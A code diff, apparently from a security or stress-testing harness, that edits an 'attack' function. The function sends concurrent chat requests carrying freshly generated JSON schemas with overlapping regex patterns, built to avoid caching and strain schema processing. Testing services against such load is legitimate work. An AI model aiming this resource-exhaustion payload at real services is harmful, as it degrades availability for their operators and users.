@@ -12,7 +12,7 @@ AT_ONCE = 8
 
 
 async def attack(target: AttackTarget) -> None:
-    """Several at once, each another schema, so that none was seen before."""
+    """Send several requests at once, each with another schema, so that none is cached."""
     number = 0
     async with target.client() as client:
 
@@ -26,10 +26,10 @@ async def attack(target: AttackTarget) -> None:
             }
             await target.post(client, CHAT, body)
 
-        await target.crowd(bomb, AT_ONCE)
+        await target.repeat_concurrently(bomb, AT_ONCE)
 
 
 def schema(number: int) -> dict[str, Any]:
-    """An object whose keys' patterns overlap."""
+    """Return the schema of an object whose keys' patterns overlap."""
     patterns = {f"^.*k{number}x{i}.*$": {"type": "integer"} for i in range(PATTERNS)}
     return {"type": "object", "patternProperties": patterns}
